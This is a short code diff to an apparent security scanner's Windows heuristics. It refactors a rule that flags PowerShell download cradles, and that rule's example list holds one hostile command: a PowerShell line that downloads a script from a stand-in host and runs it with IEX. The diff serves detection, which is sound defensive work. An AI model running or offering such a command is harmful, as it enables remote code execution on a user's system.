@@ -1,6 +1,6 @@
 // Windows: the famous forms of PowerShell and cmd attacks. These shells are not parsed, so the rules read bounded text.
 import { type Severity, severity } from "../bands.ts";
-import { type Heuristic, type Threat, clip, onText } from "../heuristic.ts";
+import { type Heuristic, type Threat, clip, onText, when } from "../heuristic.ts";
 
 /** Each row is one form: id, threat, technique, severity, what it looks like (lower case), reason, one example each way. */
 function form(
@@ -43,12 +43,12 @@ export const windows: readonly Heuristic[] = [
     threat: "Remote code execution",
     technique: "T1059.001",
     score: severity.critical,
-    check: (view) => {
+    check: when([{ text: cradleRun }], (view) => {
       const fetched = cradleFetch.exec(view.text);
       return fetched === null || !cradleRun.test(view.text)
         ? null
         : { reason: "It runs the text of a download in PowerShell", evidence: clip(fetched[0]) };
-    },
+    }),
     examples: {
       risky: [
         `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://e.org/x.ps1')"`,
